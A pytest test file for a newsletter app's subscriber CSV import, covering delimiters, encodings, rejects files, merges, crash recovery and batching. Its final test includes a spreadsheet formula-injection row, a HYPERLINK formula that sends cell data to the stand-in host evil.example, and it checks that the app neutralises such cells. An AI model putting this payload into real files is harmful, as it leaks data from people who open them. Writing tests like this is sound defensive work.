"""CSV import of subscribers: headers, delimiters, encodings, rejects, merges, crashes, size."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsletter.cli import cli
from newsletter.domain.subscriber import Status, SubscriberData
from newsletter.errors import SubscriberError
from newsletter.store import Store
from newsletter.subscribers import membership as subs
from newsletter.subscribers.export import iter_subscribers
from newsletter.subscribers.import_csv import (
    ImportProgress,
    find_columns,
    import_csv,
    sniff_delimiter,
)
from tests.support.paths import FIXTURES as ALL_FIXTURES
from tests.support.stores import migrated

FIXTURES = ALL_FIXTURES / "subscribers"
NOW = dt.datetime(2025, 3, 3, 9, 0, tzinfo=dt.UTC)


def fixture(name: str, tmp_path: Path) -> Path:
    """A copy of a fixture in tmp_path, so the rejects file lands there too."""
    return Path(shutil.copy(FIXTURES / name, tmp_path / name))


def emails(store: Store) -> list[str]:
    return [s.email for s in iter_subscribers(store)]


def test_a_mixed_file_imports_the_good_rows_and_rejects_the_rest(
    any_store: Store, tmp_path: Path
) -> None:
    """Missing email, bad address and an extra field are rejected; a repeat in other case merges."""
    report = import_csv(any_store, fixture("basic.csv", tmp_path), now=NOW)
    assert (report.imported, report.updated, report.unchanged, report.rejected) == (2, 0, 1, 3)
    assert emails(any_store) == ["ada@example.org", "grace@example.com"]
    ada = subs.get_by_email(any_store, "Ada@EXAMPLE.org")
    assert ada is not None and ada.name == "Ada Lovelace" and ada.status is Status.ACTIVE
    assert ada.attributes == {"Company": "Analytical Engines"}  # the first row of an address wins
    assert ada.source == "import:basic.csv" and ada.confirmed_at == NOW
    assert report.rejects_path == tmp_path / "basic.rejects.csv"


def test_the_rejects_file_holds_each_original_row_and_its_reason(
    any_store: Store, tmp_path: Path
) -> None:
    """The rejects CSV has the input's header plus `line` and `reason`, and every rejected row
    verbatim."""
    report = import_csv(any_store, fixture("basic.csv", tmp_path), now=NOW)
    assert report.rejects_path is not None
    with report.rejects_path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["Email", "Name", "Company", "line", "reason"]
    assert rows[1] == ["", "No Address", "Nowhere", "3", "missing email"]
    assert rows[2][:4] == ["not-an-address", "Broken", "ACME", "4"]
    assert rows[2][4].startswith("not a valid email address: 'not-an-address'")
    assert rows[3] == [
        "alan@example.net",
        "Alan Turing",
        "Bletchley",
        "extra field",
        "8",
        "4 fields where the header has 3",
    ]
    assert report.summary.endswith(f"rejects in {report.rejects_path}")


def test_a_utf8_bom_is_not_part_of_the_first_header(any_store: Store, tmp_path: Path) -> None:
    """A BOM before `email` still finds the column, and the text stays UTF-8."""
    import_csv(any_store, fixture("bom.csv", tmp_path), now=NOW)
    (zoe,) = subs.list_subscribers(any_store)
    assert (zoe.email, zoe.name) == ("zoe@example.org", "Zoë Çelik")


def test_a_file_that_is_not_utf8_is_read_as_cp1252(any_store: Store, tmp_path: Path) -> None:
    """Latin-1/cp1252 bytes (é, ñ and the cp1252-only en dash) decode correctly."""
    report = import_csv(any_store, fixture("latin1.csv", tmp_path), now=NOW)
    assert report.imported == 2
    assert [s.name for s in subs.list_subscribers(any_store)] == [
        "José Muñoz",
        "René Lefèvre – Paris",
    ]


def test_semicolons_are_sniffed_and_commas_inside_fields_kept(
    any_store: Store, tmp_path: Path
) -> None:
    """A semicolon file with commas in a field splits on the semicolons; `full name` is the name."""
    import_csv(any_store, fixture("semicolon.csv", tmp_path), now=NOW)
    ana, luis = subs.list_subscribers(any_store)
    assert (ana.email, ana.name, ana.attributes) == (
        "ana@example.pt",
        "Ana Sousa",
        {"city": "Lisboa, Portugal"},
    )
    assert luis.name == "Luís Costa"


def test_tabs_are_sniffed_and_first_and_last_names_joined(any_store: Store, tmp_path: Path) -> None:
    """A tab file with `Email Address`, `First Name`, `Last Name` joins the name parts."""
    import_csv(any_store, fixture("tab.csv", tmp_path), now=NOW)
    kim, lee = subs.list_subscribers(any_store)
    assert (kim.email, kim.name, kim.attributes) == (
        "kim@example.kr",
        "Kim Min-ji",
        {"Plan": "pro"},
    )
    assert lee.name == "Lee"


def test_a_file_without_an_email_column_names_the_headers_it_found(
    any_store: Store, tmp_path: Path
) -> None:
    """No email column is one clear error listing the headers."""
    with pytest.raises(
        SubscriberError, match=r"no email column in the header \(found: 'name', 'phone'\)"
    ):
        import_csv(any_store, fixture("no_email.csv", tmp_path), now=NOW)


def test_the_rejects_file_may_not_be_the_input(any_store: Store, tmp_path: Path) -> None:
    """Writing rejects over the file being read would destroy it: refused up front."""
    path = fixture("basic.csv", tmp_path)
    with pytest.raises(SubscriberError, match="cannot be the input"):
        import_csv(any_store, path, rejects_path=tmp_path / "." / "basic.csv")
    assert path.read_bytes() == (FIXTURES / "basic.csv").read_bytes()


@pytest.mark.parametrize(
    "header,email,name",
    [
        (["E-Mail", "Name"], 0, 1),
        (["id", "Email Address", "Full Name"], 1, 2),
        (["Mail", "first_name"], 0, None),
        (["Subscriber Email (work)", "x"], 0, None),
    ],
)
def test_email_and_name_columns_are_found_by_header(
    header: list[str], email: int, name: int | None
) -> None:
    """Common spellings of the email and name headers are recognised, in any case."""
    columns = find_columns(header)
    assert (columns.email, columns.name) == (email, name)


def test_the_delimiter_falls_back_to_a_comma() -> None:
    """A one-column sample gives the sniffer nothing to go on: comma."""
    assert sniff_delimiter("email\na@example.org\nb@example.org\n") == ","
    assert sniff_delimiter("email|name\na@example.org|A\nb@example.org|B\n") == "|"


def test_unsubscribed_people_stay_so_unless_resubscribe(any_store: Store, tmp_path: Path) -> None:
    """Importing an unsubscribed, bounced or complained address keeps its status; --resubscribe re-activates."""
    for email, status in [
        ("u@example.org", Status.UNSUBSCRIBED),
        ("b@example.org", Status.BOUNCED),
        ("c@example.org", Status.COMPLAINED),
    ]:
        added = subs.add(any_store, email, now=NOW)
        subs.leave(any_store, added.subscriber.id, status, NOW)
    path = tmp_path / "again.csv"
    path.write_text(
        "email,name\nU@example.org,U\nb@example.org,\nc@example.org,\n", encoding="utf-8"
    )
    report = import_csv(any_store, path, now=NOW)
    assert report.kept_gone == 3 and "3 left unsubscribed" in report.summary
    assert {s.status for s in subs.list_subscribers(any_store)} == {
        Status.UNSUBSCRIBED,
        Status.BOUNCED,
        Status.COMPLAINED,
    }
    later = NOW + dt.timedelta(days=1)
    report = import_csv(any_store, path, resubscribe=True, now=later)
    assert (report.updated, report.unchanged, report.kept_gone) == (3, 0, 0)
    for sub in subs.list_subscribers(any_store):
        assert (sub.status, sub.confirmed_at, sub.unsubscribed_at) == (Status.ACTIVE, later, None)


def test_import_activates_pending_and_updates_known_names(any_store: Store, tmp_path: Path) -> None:
    """A pending address in the file becomes active; a stored name is replaced by the file's."""
    subs.add(any_store, "known@example.org", name="Old Name", now=NOW)
    pending = any_store.insert_subscriber(
        SubscriberData(
            email="p@example.org",
            name=None,
            status=Status.PENDING,
            source="web",
            attributes={},
            created_at=NOW,
            updated_at=NOW,
        )
    )
    path = tmp_path / "people.csv"
    path.write_text("email,name\nknown@example.org,New Name\np@example.org,\n", encoding="utf-8")
    report = import_csv(any_store, path, now=NOW + dt.timedelta(hours=1))
    assert (report.imported, report.updated) == (0, 2)
    assert subs.get(any_store, pending.id).status is Status.ACTIVE  # type: ignore[union-attr]
    assert subs.get_by_email(any_store, "known@example.org").name == "New Name"  # type: ignore[union-attr]


def _numbered(path: Path, count: int) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["email", "name", "row"])
        for n in range(count):
            writer.writerow([f"person{n}@example.org", f"Person {n}", str(n)])
        writer.writerow(["PERSON3@example.org", "A later repeat", "dup"])  # fills gaps only
    return path


def test_a_rerun_after_a_crash_loses_nothing_and_duplicates_nothing(
    any_store: Store, tmp_path: Path
) -> None:
    """A crash after the 2nd transaction keeps 2 batches; the rerun adds the rest, each row once."""
    path = _numbered(tmp_path / "big.csv", 45)
    calls: list[ImportProgress] = []

    def crash(progress: ImportProgress) -> None:
        calls.append(progress)
        if len(calls) == 2:
            raise RuntimeError("power cut")

    with pytest.raises(RuntimeError):
        import_csv(any_store, path, batch_size=10, now=NOW, on_batch=crash)
    assert len(emails(any_store)) == 20 and calls[-1].rows == 20
    report = import_csv(any_store, path, batch_size=10, now=NOW)
    assert (report.imported, report.updated, report.unchanged, report.rejected) == (25, 0, 21, 0)
    stored = emails(any_store)
    assert sorted(stored) == sorted(f"person{n}@example.org" for n in range(45))
    again = import_csv(any_store, path, batch_size=10, now=NOW)
    assert (again.imported, again.updated, again.unchanged) == (0, 0, 46)
    assert subs.get_by_email(any_store, "person3@example.org").name == "Person 3"  # type: ignore[union-attr]


def test_progress_is_reported_after_every_transaction(any_store: Store, tmp_path: Path) -> None:
    """on_batch sees the rows and the bytes read so far, ending at the file's size."""
    path = _numbered(tmp_path / "big.csv", 25)
    seen: list[ImportProgress] = []
    import_csv(any_store, path, batch_size=10, now=NOW, on_batch=seen.append)
    assert [p.rows for p in seen] == [10, 20, 26]
    assert seen[-1].bytes_read == seen[-1].total_bytes == path.stat().st_size


def test_a_big_file_imports_in_batches(tmp_path: Path) -> None:
    """10,000 rows go in as 5 transactions of 2,000 (bench/import_csv.py times 100,000)."""
    path = tmp_path / "many.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["Email", "First Name", "Last Name", "Country"])
        writer.writerows(
            [f"reader{n}@example{n % 97}.com", "Reader", str(n), "NL"] for n in range(10_000)
        )
    seen: list[ImportProgress] = []
    with migrated(f"sqlite:///{tmp_path / 'big.db'}") as store:
        report = import_csv(store, path, now=NOW, on_batch=seen.append)
        assert (report.imported, report.rejected) == (10_000, 0)
        assert store.count_subscribers_by_status() == {"active": 10_000}
    assert [p.rows for p in seen] == [2000, 4000, 6000, 8000, 10_000]


def test_the_import_command_prints_one_summary_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`newsletter subscribers import` prints the counts and where the rejects are."""
    monkeypatch.chdir(tmp_path)
    env = {"NEWSLETTER_DATABASE_URL": f"sqlite:///{tmp_path / 'n.db'}"}
    path = fixture("basic.csv", tmp_path)
    rejects = tmp_path / "bad.csv"
    args = [
        "subscribers",
        "import",
        str(path),
        "--rejects",
        str(rejects),
        "--source",
        "conf",
        "--batch-size",
        "2",
    ]
    result = CliRunner().invoke(cli, args, env=env)
    assert result.exit_code == 0, result.output
    assert (
        result.output == f"imported 2, updated 0, unchanged 1, rejected 3; rejects in {rejects}\n"
    )
    assert rejects.exists()
    with migrated(env["NEWSLETTER_DATABASE_URL"]) as store:
        assert {s.source for s in subs.list_subscribers(store)} == {"conf"}


def test_an_unterminated_quote_costs_only_its_own_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`newsletter subscribers import` of a file where line 3 opens a quote it never closes:
    line 3 is rejected with its number, every row after it is imported; a quoted name with a
    line break (a real multi-line field) stays one row; formula cells in the rejects file are
    neutralised as the export does."""
    monkeypatch.chdir(tmp_path)
    env = {"NEWSLETTER_DATABASE_URL": f"sqlite:///{tmp_path / 'n.db'}"}
    path = tmp_path / "people.csv"
    path.write_text(
        "email,name\n"
        "ada@example.org,Ada\n"
        '"bob@example.org,Bob\n'
        "carl@example.org,Carl\n"
        'dora@example.org,"Dora ""the"" Explorer"\n'
        'eve@example.org,"Eve\nMarie"\n'
        '=HYPERLINK("https://evil.example?"&A1;"Fix me"),-2+3\n'
        "fay@example.org,Fay\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"
    args = ["subscribers", "import", str(path), "--rejects", str(rejects)]
    result = CliRunner().invoke(cli, args, env=env)
    assert result.exit_code == 0, result.output
    assert result.output.startswith("imported 5, updated 0, unchanged 0, rejected 2;")
    with migrated(env["NEWSLETTER_DATABASE_URL"]) as store:
        names = {s.email: s.name for s in subs.list_subscribers(store)}
    assert names == {
        "ada@example.org": "Ada",
        "carl@example.org": "Carl",
        "dora@example.org": 'Dora "the" Explorer',
        "eve@example.org": "Eve Marie",
        "fay@example.org": "Fay",
    }
    with rejects.open(encoding="utf-8", newline="") as file:
        header, quote, formula = list(csv.reader(file))
    assert header == ["email", "name", "line", "reason"]
    assert quote[:3] == ["bob@example.org,Bob", "", "3"]
    assert quote[3] == "a quote opened here is never closed; the lines after it are read again"
    assert formula[:3] == ['\'=HYPERLINK("https://evil.example?"&A1;"Fix me")', "'-2+3", "8"]
    assert formula[3].startswith("not a valid email address: ")
